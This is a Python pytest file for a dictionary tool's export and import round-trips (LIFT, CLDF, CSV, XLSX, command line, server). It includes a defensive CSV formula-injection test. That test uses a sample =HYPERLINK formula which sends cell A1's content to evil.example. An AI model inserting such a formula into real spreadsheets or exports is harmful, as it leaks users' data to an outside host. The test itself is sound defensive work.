"""Exports: LIFT, CLDF, CSV and XLSX written from the store and read back by the importers give
the same entries; the command line and the editors' download."""

from __future__ import annotations

import pytest
from support import Library

from corpora.export import export
from corpora.importer import import_file
from corpora.sample import load_sample
from corpora.tabular import Columns
from tudien.cli import main

CONTENT = ("headword", "variants", "ipa", "pos")
SENSE = ("glosses", "definitions", "examples", "domains", "notes", "pos")


def content(entry: dict, sense_fields=SENSE, extra=True) -> tuple:
    """What an exchange must keep of an entry (not its id, provenance or source locations)."""
    senses = tuple(tuple(repr(s.get(k) or None) for k in sense_fields) for s in entry["senses"])
    media = tuple(m["href"] for m in entry.get("pronunciations") or ())
    kept = {k: v for k, v in (entry.get("extra") or {}).items()} if extra else {}
    return (entry["language"], *(repr(entry.get(k) or None) for k in CONTENT), senses, media, repr(kept))


def entries(lib: Library, dataset: str) -> list[dict]:
    return list(lib.store.entries.export_entries(dataset=dataset))


@pytest.mark.shared_data
@pytest.mark.parametrize("source", ["formats/lift/Lotud.zip"])  # a real FieldWorks export
def test_lift_round_trip(tmp_path, shared_data, source):
    lib = Library(tmp_path / "data")
    first = import_file(lib.services.collection, shared_data / source, "lift", dataset="first")
    out = tmp_path / "out.lift"
    assert export("lift", entries(lib, "first"), out) == first.entries
    second = import_file(lib.services.collection, out, "lift", dataset="second")
    assert second.entries == first.entries and not second.problems
    before = sorted(content(e) for e in entries(lib, "first"))
    after = sorted(content(e) for e in entries(lib, "second"))
    assert before == after


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_csv_and_xlsx_round_trip_in_the_import_layout(tmp_path, fmt):
    lib = Library(tmp_path / "data")
    load_sample(lib.services.collection)
    original = [e for e in entries(lib, "sample-tyz")]
    out = tmp_path / f"out.{fmt}"
    assert export(fmt, original, out, lib.store.datasets.all()) == len(original)
    columns = Columns("headword", "vie", english="eng", pos="pos", variants="variants", ipa="ipa")
    back = import_file(lib.services.collection, out, fmt, language="tyz", columns=columns, dataset="back")
    assert back.entries == len(original) and not back.problems
    fields = ("glosses", "pos")
    assert sorted(content(e, fields, extra=False) for e in original) == \
        sorted(content(e, fields, extra=False) for e in entries(lib, "back"))


@pytest.mark.shared_data
def test_cldf_export_validates_and_reads_back(tmp_path, shared_data):
    lib = Library(tmp_path / "data")
    import_file(lib.services.collection, shared_data / "pairs/mww-vie.tsv", "tsv", language="mww",
                columns=Columns("mww_form", "vie_form", english="english_meaning"), dataset="wold")
    out = tmp_path / "cldf"
    count = export("cldf", entries(lib, "wold"), out, lib.store.datasets.all())  # pycldf validates it
    assert count == 1240 and (out / "Wordlist-metadata.json").exists()
    from pycldf import Dataset

    forms = list(Dataset.from_metadata(out / "Wordlist-metadata.json")["FormTable"])
    hmong = [f for f in forms if f["Language_ID"] == "mww"]
    assert len(hmong) == sum(len(e["senses"]) for e in entries(lib, "wold"))
    assert {f["Language_ID"] for f in forms} == {"mww", "vie"}  # Vietnamese gives each concept its word
    back = import_file(lib.services.collection, out / "Wordlist-metadata.json", "cldf", dataset="back")
    assert not back.problems
    original = {(e["headword"], g) for e in entries(lib, "wold") for s in e["senses"] for g in s["glosses"]["vie"][:1]}
    returned = {(e["headword"], g) for e in entries(lib, "back") for s in e["senses"] for g in s["glosses"].get("vie", ())}
    assert original <= returned


def test_the_command_line_exports_by_language_dataset_and_status(tmp_path):
    env = {"TUDIEN_DATA_DIR": str(tmp_path / "data"), "TUDIEN_TTS_ENGINES": "espeak-ng"}
    lib = Library(tmp_path / "data")
    load_sample(lib.services.collection)
    out = tmp_path / "tay.csv"
    assert main(["export", str(out), "--format", "csv", "--language", "tyz"], env) == 0
    lines = out.read_text(encoding="utf-8").splitlines()
    assert lines[0] == "headword,vie,eng,pos,variants,ipa" and any(line.startswith("rườn,nhà") for line in lines)
    assert main(["export", str(out), "--format", "csv"], env) == 2  # no overwriting without --force
    assert main(["export", str(out), "--format", "csv", "--dataset", "no-such"], env) == 2
    assert main(["export", str(tmp_path / "all.lift"), "--format", "lift", "--status", "all"], env) == 0
    assert (tmp_path / "all.lift").read_text(encoding="utf-8").count("<entry ") == lib.store.entries.count()


def test_awkward_names_and_values_do_not_break_an_export(tmp_path):
    """A dataset named with spaces and Vietnamese letters (the default is the file's name), a
    gloss that starts with "=" (a synonym notation, not a formula), a stray control character."""
    from openpyxl import load_workbook

    from dictionary.model import Entry, Provenance
    from dictionary.storage.datasets import Dataset

    lib = Library(tmp_path / "data")
    entry = Entry(id="tyz-aaaaaaaaaaaa", language="tyz", headword="mạ\x07", provenance=Provenance(dataset="Từ điển Tày, 2024"),
                  senses=[{"glosses": {"vie": ["= ngựa", "ngựa"]}}])
    lib.store.datasets.replace(Dataset("Từ điển Tày, 2024", "tsv", citation="Tác giả, 2024"), [entry])
    cldf = tmp_path / "cldf"
    assert export("cldf", entries(lib, "Từ điển Tày, 2024"), cldf, lib.store.datasets.all()) == 1
    assert "Tu_dien_Tay_2024" in (cldf / "sources.bib").read_text(encoding="utf-8")
    book = tmp_path / "out.xlsx"
    export("xlsx", entries(lib, "Từ điển Tày, 2024"), book, lib.store.datasets.all())
    row = [c.value for c in list(load_workbook(book).worksheets[0].iter_rows())[1]]
    assert row[0] == "mạ" and row[1] == "= ngựa; ngựa"
    lift = tmp_path / "out.lift"
    weird = {**entries(lib, "Từ điển Tày, 2024")[0], "extra": {"traits": "a CSV column", "reversals": ["x"]}}
    assert export("lift", [weird], lift) == 1  # free-form extra of another shape is not LIFT's to write


# -- no formula in a CSV cell, and the text back on import -------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"bấm vào đây")'
TRICKY = [FORMULA, "+84 912", "-ka", "@SUM(A1)", "\tcây", "\rcây", "'-ka", "''=x", "'nhà", "a=b", "nhà", "'", ""]


def test_a_neutral_cell_is_never_a_formula_and_reads_back_as_written():
    from corpora.formulas import TRIGGERS, neutral, restored

    for value in TRICKY:
        cell = neutral(value)
        assert not cell[:1] or cell[0] not in TRIGGERS, value
        assert restored(cell) == value
    assert neutral(FORMULA) == "'" + FORMULA and neutral("'-ka") == "''-ka" and neutral("'nhà") == "'nhà"
    # a list typed by hand, quoted as a spreadsheet user quotes a leading sign, reads as its text
    assert restored("'-ka") == "-ka" and restored("'nhà") == "'nhà"


def _csv_cells(data: str) -> list[list[str]]:
    import csv
    import io

    return list(csv.reader(io.StringIO(data.lstrip("\ufeff"), newline="")))


def _no_formula(cells: list[list[str]]) -> None:
    from corpora.formulas import TRIGGERS

    for row in cells:
        for cell in row:
            assert not cell or cell[0] not in TRIGGERS, (cell, row)


@pytest.mark.shared_data
def test_a_toolbox_list_defined_in_malay_only_goes_out_as_csv_and_back(tmp_path, shared_data):
    """The Semai list has 5 entries with a Malay definition and no gloss at all: the CSV carries
    the Malay glosses and definitions in columns of their own, and the import takes them."""
    env = {"TUDIEN_DATA_DIR": str(tmp_path / "data"), "TUDIEN_TTS_ENGINES": "espeak-ng"}
    source = shared_data / "formats/toolbox/solid-KamSem4.db"
    assert main(["import", str(source), "--format", "toolbox", "--language", "sea", "--marker", "gn=msa",
                 "--marker", "dn=definition:msa", "--dataset", "semai"], env) == 0
    out = tmp_path / "semai.csv"
    assert main(["export", str(out), "--format", "csv", "--language", "sea"], env) == 0
    header = out.read_text(encoding="utf-8").splitlines()[0]
    assert header.startswith("headword,vie,eng,pos,variants,ipa,") and "gloss.msa" in header and "definition.msa" in header
    assert main(["import", str(out), "--format", "csv", "--language", "sea", "--headword-column", "headword",
                 "--gloss-column", "vie", "--english-column", "eng", "--pos-column", "pos",
                 "--dataset", "back"], env) == 0
    lib = Library(tmp_path / "data")

    def meanings(dataset):
        from corpora.export import SEPARATOR
        from corpora.glosses import split_glosses

        # a gloss holding a comma ("hide, conceal") is two glosses once in a CSV cell, as ever
        return sorted((e["headword"], repr(sorted((k, split_glosses(SEPARATOR.join(v))[0]) for k, v in s["glosses"].items())),
                       repr(sorted((s.get("definitions") or {}).items())))
                      for e in entries(lib, dataset) for s in e["senses"])

    # homographs (\hm) share one row key in the CSV layout: compare the senses, not the entries
    assert sorted(set(meanings("semai"))) == sorted(set(meanings("back")))
    defined_only = [e["headword"] for e in entries(lib, "back") if not any(s["glosses"] for s in e["senses"])]
    assert len(defined_only) == 5


@pytest.fixture(scope="module")
def formulas_server(tmp_path_factory):
    """A real server over the sample and one entry whose headword is a formula."""
    import os

    from support import start_server

    from dictionary.model import Entry, Provenance
    from dictionary.storage.datasets import Dataset

    folder = tmp_path_factory.mktemp("formulas") / "data"
    lib = Library(folder)
    load_sample(lib.services.collection)
    entry = Entry(id="tyz-f0f0f0f0f0f0", language="tyz", headword=FORMULA, provenance=Provenance(dataset="thu"),
                  senses=[{"glosses": {"vie": ["= ngựa", "mái hiên"], "eng": ["+eaves"]}}], variants=["@ka"])
    lib.store.datasets.replace(Dataset("thu", "csv", licence="CC0-1.0"), [entry])
    lib.index()
    env = {**os.environ, "TUDIEN_DATA_DIR": str(folder), "TUDIEN_TTS_ENGINES": "espeak-ng",
           "TUDIEN_API_KEYS": "khoa-xuat"}
    server, port = start_server(env)
    yield f"http://127.0.0.1:{port}", folder
    server.terminate()
    server.wait(timeout=15)


@pytest.mark.server
def test_csv_from_the_export_and_the_workbench_holds_no_formula_and_imports_back(formulas_server, tmp_path):
    import httpx

    site, _ = formulas_server
    answer = httpx.get(f"{site}/v1/export", params={"format": "csv", "language": "tyz", "dataset": "thu"},
                       headers={"X-API-Key": "khoa-xuat"}, timeout=30)
    assert answer.status_code == 200
    cells = _csv_cells(answer.text)
    _no_formula(cells)
    assert cells[1][:3] == ["'" + FORMULA, "'= ngựa; mái hiên", "'+eaves"] and cells[1][4] == "'@ka"
    out = tmp_path / "thu.csv"
    out.write_bytes(answer.content)
    lib = Library(tmp_path / "data")
    back = import_file(lib.services.collection, out, "csv", language="tyz", dataset="back", columns=Columns(
        "headword", "vie", english="eng", pos="pos", variants="variants", ipa="ipa"))
    assert not back.problems
    [entry] = entries(lib, "back")
    assert entry["headword"] == FORMULA and entry["variants"] == ["@ka"]
    assert entry["senses"][0]["glosses"] == {"vie": ["= ngựa", "mái hiên"], "eng": ["+eaves"]}

    glossary = httpx.post(f"{site}/dich", data={"text": f"{FORMULA} mái hiên", "to": "tyz", "export": "csv"},
                          timeout=30)
    assert glossary.status_code == 200 and glossary.headers["content-type"].startswith("text/csv")
    cells = _csv_cells(glossary.text)
    _no_formula(cells)
    assert cells[0] == ["Văn bản gốc", f"'{FORMULA} mái hiên"]
    equivalent = next(row[1] for row in cells if row and row[0] == "mái hiên")
    assert equivalent.startswith("'" + FORMULA)
